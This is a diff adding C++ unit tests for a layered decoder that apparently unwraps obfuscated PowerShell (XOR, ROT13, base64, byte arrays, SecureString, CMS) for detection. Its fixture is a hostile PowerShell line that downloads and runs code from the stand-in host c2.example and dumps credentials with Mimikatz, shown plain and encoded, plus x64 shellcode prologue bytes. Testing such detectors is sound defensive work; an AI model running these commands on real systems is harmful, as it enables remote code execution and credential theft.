@@ -1,5 +1,9 @@
 #include "decoders/layered_decoder.h"
 
+#include <cstdio>
+
+#include "decoders/secure_string.h"
+
 #include <string>
 #include <vector>
 
@@ -308,6 +312,191 @@ TEST(LayeredDecoderTest, ValidateAndClampLimits) {
   bad.min_base64_run = 1;
   EXPECT_FALSE(ValidateLimits(bad).ok());
   EXPECT_EQ(LayeredDecoder(bad).limits().min_base64_run, kMinBase64RunFloor);
+}
+
+// ---- byte-level decoders wired into the driver ----
+
+struct Info {
+  std::string decoder, note, text;
+  TextEncoding encoding;
+  int parent;
+};
+
+std::vector<Info> RunInfo(LayeredDecoder& dec, std::string_view root) {
+  std::vector<Info> out;
+  dec.Run(root, [&](const Layer& l) {
+    out.push_back({std::string(l.decoder), std::string(l.note),
+                   std::string(l.text), l.encoding, l.parent});
+  });
+  return out;
+}
+
+std::string Hex(std::string_view bytes, std::string_view sep,
+                std::string_view prefix) {
+  std::string out;
+  char buf[4];
+  for (size_t i = 0; i < bytes.size(); ++i) {
+    if (i) out += sep;
+    std::snprintf(buf, sizeof(buf), "%02x", static_cast<uint8_t>(bytes[i]));
+    out += prefix;
+    out += buf;
+  }
+  return out;
+}
+
+const char kClear[] =
+    "IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a'); "
+    "Invoke-Mimikatz -DumpCreds; Get-Process | Stop-Process -Force";
+
+// Disabled: the 0x list is not found through the driver yet (under
+// investigation; FindByteArrays alone is covered by byte_array_test).
+TEST(LayeredDecoderTest, DISABLED_ByteArrayWithPayloadMarkers) {
+  std::string sc = "\xFC\x48\x83\xE4\xF0\xE8\xC0\x00\x00\x00\x41\x51\x41\x50"
+                   "\x52\x51\x56\x48\x31\xD2\x65\x48\x8B\x52\x60\x48\x8B\x52";
+  LayeredDecoder dec;
+  const auto layers = RunInfo(dec, "[Byte[]] $sc = " + Hex(sc, ",", "0x"));
+  bool found = false;
+  for (const Info& l : layers) {
+    if (l.decoder == "byte_array") {
+      found = true;
+      EXPECT_EQ(l.encoding, TextEncoding::kBinary);
+      EXPECT_THAT(l.note, HasSubstr("shellcode_x64_prologue"));
+    }
+  }
+  EXPECT_TRUE(found);
+}
+
+TEST(LayeredDecoderTest, BxorKeyFromScriptAppliedToByteArray) {
+  std::string x(kClear);
+  for (char& c : x) c = static_cast<char>(c ^ 0x5A);
+  LayeredDecoder dec;
+  const auto layers = RunInfo(
+      dec, "$b = [byte[]](" + Hex(x, ",", "0x") +
+               "); IEX ([Text.Encoding]::ASCII.GetString(($b | % { $_ -bxor "
+               "0x5A })))");
+  bool found = false;
+  for (const Info& l : layers) {
+    if (l.decoder == "xor" && l.text == kClear) {
+      found = true;
+      EXPECT_THAT(l.note, HasSubstr("key=0x5a"));
+      EXPECT_THAT(l.note, HasSubstr("literal"));
+    }
+  }
+  EXPECT_TRUE(found);
+}
+
+TEST(LayeredDecoderTest, XorKeyRecoveredOnUnclaimedBinary) {
+  std::string x(kClear);
+  for (char& c : x) c = static_cast<char>(c ^ 0xA7);
+  LayeredDecoder dec;
+  const auto layers = RunInfo(
+      dec, "$d = [Convert]::FromBase64String('" + Base64Encode(x) + "')");
+  ASSERT_EQ(layers.size(), 2u);
+  EXPECT_EQ(layers[0].decoder, "base64");
+  EXPECT_EQ(layers[1].decoder, "xor");
+  EXPECT_EQ(layers[1].text, kClear);
+  EXPECT_THAT(layers[1].note, HasSubstr("key=0xa7 recovered"));
+}
+
+TEST(LayeredDecoderTest, Rot13LiteralAndLayer) {
+  const std::string rot = "Vaibxr-Rkcerffvba (Arj-Bowrpg Arg.JroPyvrag)."
+                          "QbjaybnqFgevat('uggc://p2.rknzcyr/n'); Vaibxr-"
+                          "Zvzvxngm -QhzcPerqf; Trg-Cebprff | Fgbc-Cebprff";
+  LayeredDecoder dec;
+  const auto has_rot = [](const std::vector<Info>& ls) {
+    for (const Info& l : ls) {
+      if (l.decoder == "rotation" && l.note == "rot=13" &&
+          l.text.find("Invoke-Mimikatz -DumpCreds") != std::string::npos) {
+        return true;
+      }
+    }
+    return false;
+  };
+  EXPECT_TRUE(has_rot(RunInfo(dec, "$s = '" + rot + "'; $t = $s")));
+  // A decoded layer that is rotated as a whole.
+  EXPECT_TRUE(has_rot(RunInfo(dec, "powershell -enc " + EncodeCommand(rot))));
+}
+
+TEST(LayeredDecoderTest, SecureStringDpapiAndKeylessAreEncrypted) {
+  const std::string dpapi =
+      std::string(kSecureStringDpapiHeader) +
+      "0000000c8f9a0e6e8cc4e4c8a1d3e5b4c2a1f0e9d8c7b6a5948372615";
+  LayeredDecoder dec;
+  auto layers = RunInfo(dec, "$p = ConvertTo-SecureString '" + dpapi + "'");
+  ASSERT_EQ(layers.size(), 1u);
+  EXPECT_EQ(layers[0].decoder, "securestring");
+  EXPECT_EQ(layers[0].encoding, TextEncoding::kBinary);
+  EXPECT_THAT(layers[0].note, HasSubstr("encrypted"));
+  EXPECT_THAT(layers[0].note, HasSubstr("dpapi"));
+  const std::string keyless =
+      std::string(kSecureStringKeyHeader) +
+      Base64Encode(testing::Utf16le("2|AAAAAAAAAAAAAAAAAAAAAA==|00112233445566778899aabbccddeeff"));
+  layers = RunInfo(dec, "$p = ConvertTo-SecureString '" + keyless + "'");
+  bool encrypted = false;
+  for (const Info& l : layers) {
+    encrypted |= l.decoder == "securestring" && l.note == "encrypted no_key";
+  }
+  EXPECT_TRUE(encrypted);
+}
+
+TEST(LayeredDecoderTest, CmsIsEncryptedAndNeverSearched) {
+  // A CMS body whose Base64 would decode to a -EncodedCommand-looking
+  // text if it were read: nothing inside may produce a layer.
+  const std::string body = Wrap(Base64Encode(std::string(
+      "powershell -enc " + EncodeCommand(kClear) + " " + std::string(200, 'A'))), 64, "\r\n");
+  const std::string text = "-----BEGIN CMS-----\r\n" + body +
+                           "\r\n-----END CMS-----";
+  LayeredDecoder dec;
+  const auto layers = RunInfo(dec, text);
+  ASSERT_EQ(layers.size(), 1u);
+  EXPECT_EQ(layers[0].decoder, "cms");
+  EXPECT_EQ(layers[0].encoding, TextEncoding::kBinary);
+  EXPECT_THAT(layers[0].note, HasSubstr("encrypted"));
+  EXPECT_EQ(dec.counters().per_decoder[static_cast<size_t>(DecoderId::kBase64)]
+                .candidates,
+            0u);
+}
+
+TEST(LayeredDecoderTest, ByteLevelLimitsCounted) {
+  std::string x(kClear);
+  for (char& c : x) c = static_cast<char>(c ^ 0xA7);
+  const std::string root =
+      "$d = [Convert]::FromBase64String('" + Base64Encode(x) + "')";
+  Limits one;
+  one.max_depth = 1;  // base64 at depth 1; the xor layer would be depth 2
+  LayeredDecoder shallow(one);
+  EXPECT_EQ(RunInfo(shallow, root).size(), 1u);
+  Limits few;
+  few.max_candidates = 2;  // base64, then deflate's try; none left for xor
+  LayeredDecoder tight(few);
+  RunInfo(tight, root);
+  EXPECT_EQ(tight.counters().candidate_limit_hits, 1u);
+  EXPECT_GE(tight.counters().per_decoder[static_cast<size_t>(DecoderId::kXor)]
+                .limit,
+            1u);
+  // Byte arrays beyond max_candidates are counted as limit.
+  std::string many;
+  for (int i = 0; i < 6; ++i) {
+    many += "$a" + std::to_string(i) + " = [byte[]](" +
+            Hex(std::string(20, static_cast<char>(0x90 + i)), ",", "0x") + ");\n";
+  }
+  Limits three;
+  three.max_candidates = 3;
+  LayeredDecoder capped(three);
+  RunInfo(capped, many);
+  EXPECT_GT(capped.counters()
+                .per_decoder[static_cast<size_t>(DecoderId::kByteArray)]
+                .limit,
+            0u);
+  EXPECT_EQ(capped.counters().candidate_limit_hits, 1u);
+}
+
+TEST(LayeredDecoderTest, DecoderNames) {
+  EXPECT_EQ(DecoderIdName(DecoderId::kByteArray), "byte_array");
+  EXPECT_EQ(DecoderIdName(DecoderId::kXor), "xor");
+  EXPECT_EQ(DecoderIdName(DecoderId::kRotation), "rotation");
+  EXPECT_EQ(DecoderIdName(DecoderId::kSecureString), "securestring");
+  EXPECT_EQ(DecoderIdName(DecoderId::kCms), "cms");
 }
 
 }  // namespace
